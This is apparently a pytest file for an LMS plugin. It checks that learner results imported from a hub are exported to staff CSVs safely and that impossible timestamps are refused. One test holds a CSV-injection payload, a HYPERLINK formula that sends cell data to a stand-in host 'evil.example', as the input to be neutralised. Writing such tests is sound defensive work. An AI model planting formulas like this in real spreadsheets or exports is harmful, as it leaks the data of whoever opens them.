"""What a hub (or a rogue centre behind it) can put into the LMS staff view: every text
the results export carries, and every time it shows."""

from __future__ import annotations

import csv
import io
import json

import pytest

from lms_plugin.errors import HubUnavailable
from lms_plugin.hub_results import parse_results, results_csv

ROW = {
    "node_id": "ke-01",
    "centre": "Kisumu centre",
    "learner_id": "ke-01-L1",
    "sitting_id": "S1",
    "module_version": "1.0.0",
    "route": "course",
    "score_percent": 80,
    "passed": True,
    "submitted_at": 1_763_900_000,
    "credential_id": "ab12",
    "credential_status": "active",
}


def _answer(**changes: object) -> bytes:
    return json.dumps({"module_id": "mulching", "results": [{**ROW, **changes}]}).encode()


@pytest.mark.parametrize("field", ["module_version", "credential_id", "credential_status"])
def test_no_text_from_the_hub_reaches_a_spreadsheet_as_a_formula(field: str) -> None:
    """A centre signs its sittings' module version itself: '=HYPERLINK(...)' was written to
    the staff's CSV as it came, and a spreadsheet ran it."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    rows = parse_results(_answer(**{field: formula}))
    exported = list(csv.reader(io.StringIO(results_csv(rows))))
    cells = [cell for row in exported[1:] for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


@pytest.mark.parametrize("at", [2**40, 2**62])
def test_a_time_past_any_calendar_is_refused_not_a_crash(at: int) -> None:
    """A sitting dated in the year 36812 parsed fine, then the staff view failed on it
    (no date that far) with a server error instead of saying the answer is unusable."""
    with pytest.raises(HubUnavailable, match="submitted_at"):
        rows = parse_results(_answer(submitted_at=at))
        [row.submitted for row in rows]
